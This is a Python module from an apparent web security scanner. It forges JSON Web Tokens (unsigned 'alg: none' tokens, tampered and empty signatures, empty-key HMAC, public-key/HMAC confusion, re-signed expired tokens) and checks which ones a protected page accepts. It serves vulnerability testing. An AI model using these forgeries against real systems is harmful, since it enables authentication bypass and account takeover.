"""JSON Web Tokens as an attacker changes them, and what still opens a page. Made by hand: libraries refuse to make these."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import re
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

from fumehood.engines.attack.doors import private_pages
from fumehood.engines.attack.exchange import Exchange, Wanted
from fumehood.engines.attack.ground import Ground
from fumehood.engines.attack.people import is_refusal
from fumehood.engines.attack.visitor import Visitor

__all__ = ["Forged", "forged_tokens", "tokens_of"]

_TOKEN = re.compile(r"eyJ[\w-]{5,}\.[\w-]{5,}\.[\w-]*")
_HASHES = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


@dataclass(frozen=True, slots=True)
class Forged:
    """A token that nobody should believe, and the page that it opened."""

    answer: Exchange
    how: str
    expired: bool = False


@dataclass(frozen=True, slots=True)
class _Place:
    """Where a person's token is carried."""

    person: str
    kind: str  # "header" or "cookie"
    name: str
    token: str


def tokens_of(ground: Ground) -> Iterator[str]:
    """Yield each token that people were given."""
    yield from dict.fromkeys(place.token for place in _places(ground))


def forged_tokens(ground: Ground) -> Iterator[Forged]:
    """Yield forgeries that were believed. Each is only believed when the same request is refused without any token, and with noise."""
    place = next(_places(ground), None)
    if place is None:
        return
    page = next(
        (page for page in private_pages(ground, place.person) if _opens(ground, page, place, place.token)),
        None,
    )
    if page is None or _opens(ground, page, place, "noise") or _opens(ground, page, place, ""):
        return
    head, body, signature = place.token.split(".")
    for how, token, expired in (
        *_unsigned(head, body, signature),
        *_confused(ground, body),
        *_expired(ground, place.token),
    ):
        if answer := _opens(ground, page, place, token):
            yield Forged(answer, how, expired)
            if not expired:
                return


def _unsigned(head: str, body: str, signature: str) -> Iterator[tuple[str, str, bool]]:
    for name in ("none", "None", "NONE", "nOnE"):
        yield f"without a signature (alg: {name})", f"{_part({'alg': name, 'typ': 'JWT'})}.{body}.", False
    other = "A" if signature[:1] != "A" else "B"
    yield "with a signature that is wrong", f"{head}.{body}.{other}{signature[1:]}", False
    yield "with an empty signature", f"{head}.{body}.", False
    empty = hmac.digest(b"", f"{_part({'alg': 'HS256', 'typ': 'JWT'})}.{body}".encode(), "sha256")
    yield (
        "signed with an empty key",
        f"{_part({'alg': 'HS256', 'typ': 'JWT'})}.{body}.{_encoded(empty)}",
        False,
    )


def _confused(ground: Ground, body: str) -> Iterator[tuple[str, str, bool]]:
    """Sign with the public key as if it were a shared one (RFC 8725, section 2.1)."""
    for key in _public_keys(ground):
        for form in dict.fromkeys((key, key.strip(), key.strip() + "\n")):
            yield (
                "signed with the public key as if it were a shared one",
                _signed(body, form.encode(), "HS256"),
                False,
            )


def _expired(ground: Ground, token: str) -> Iterator[tuple[str, str, bool]]:
    """Sign a token that has expired with the application's own key, where one is found that made the present one."""
    head, body, signature = token.split(".")
    algorithm = _read(head).get("alg", "")
    claims = _read(body)
    if algorithm not in _HASHES or not isinstance(claims.get("exp"), int | float):
        return
    for value in ground.stage.app.config.values():
        if not isinstance(value, str | bytes) or not value:
            continue
        key = value.encode() if isinstance(value, str) else value
        if _encoded(hmac.digest(key, f"{head}.{body}".encode(), _HASHES[algorithm])) == signature:
            past = time.time() - 86_400 * 30
            old = {**claims, "exp": int(past)} | {
                name: int(past - 3600) for name in ("iat", "nbf") if name in claims
            }
            yield "that expired a month ago", _signed(_part(old), key, algorithm), True
            return


def _public_keys(ground: Ground) -> Iterator[str]:
    pattern = re.compile(
        r"-----BEGIN (?:RSA )?PUBLIC KEY-----.+?-----END (?:RSA )?PUBLIC KEY-----\n?", re.DOTALL
    )
    seen: dict[str, None] = {}
    for value in ground.stage.app.config.values():
        if isinstance(value, str):
            seen.update(dict.fromkeys(pattern.findall(value)))
    for path in sorted(ground.scratch.rglob("*")):
        if (
            path.suffix in {".pem", ".pub", ".key", ".crt", ".py"}
            and path.is_file()
            and path.stat().st_size < 100_000
        ):
            seen.update(dict.fromkeys(pattern.findall(path.read_text("utf-8", "replace"))))
    for entry in ground.entries:
        if (
            entry.method == "GET"
            and not entry.reads("path")
            and re.search(r"key|jwks|pem|cert", entry.rule, re.IGNORECASE)
        ):
            seen.update(dict.fromkeys(pattern.findall(ground.honest(entry).body.replace("\\n", "\n"))))
    yield from seen


def _places(ground: Ground) -> Iterator[_Place]:
    for person in ground.people():
        visitor = ground.stage.people[person]
        for name, value in visitor.headers.items():
            if found := _TOKEN.search(value):
                yield _Place(person, "header", name, found[0])
        for name, value in cookies_of(visitor).items():
            if found := _TOKEN.search(value):
                yield _Place(person, "cookie", name, found[0])


def cookies_of(visitor: Visitor) -> dict[str, str]:
    """The cookies that a visitor has, by name."""
    return {name: value for (name, _), value in visitor.jar.cookies.items()}


def _opens(ground: Ground, page: Wanted, place: _Place, token: str) -> Exchange | None:
    """Ask for a page with another token, and return the answer when it is let in."""
    person = ground.stage.people[place.person]
    visitor = Visitor(place.person, ground.stage)
    headers, cookies = dict(person.headers), cookies_of(person)
    kept = headers if place.kind == "header" else cookies
    kept[place.name] = kept[place.name].replace(place.token, token)
    # What the session's other parts would open is left out: the token alone is asked about.
    wanted = page.having(
        headers={**page.headers, **headers}, cookies=cookies if place.kind == "cookie" else {}
    )
    answer = visitor.send(wanted)
    return answer if answer.ok and not is_refusal(answer) else None


def _signed(body: str, key: bytes, algorithm: str) -> str:
    signed = f"{_part({'alg': algorithm, 'typ': 'JWT'})}.{body}"
    return (
        f"{signed}.{_encoded(hmac.new(key, signed.encode(), getattr(hashlib, _HASHES[algorithm])).digest())}"
    )


def _part(claims: dict[str, Any]) -> str:
    return _encoded(json.dumps(claims, separators=(",", ":")).encode())


def _encoded(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _read(part: str) -> dict[str, Any]:
    try:
        found = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    except ValueError:
        return {}
    return found if isinstance(found, dict) else {}
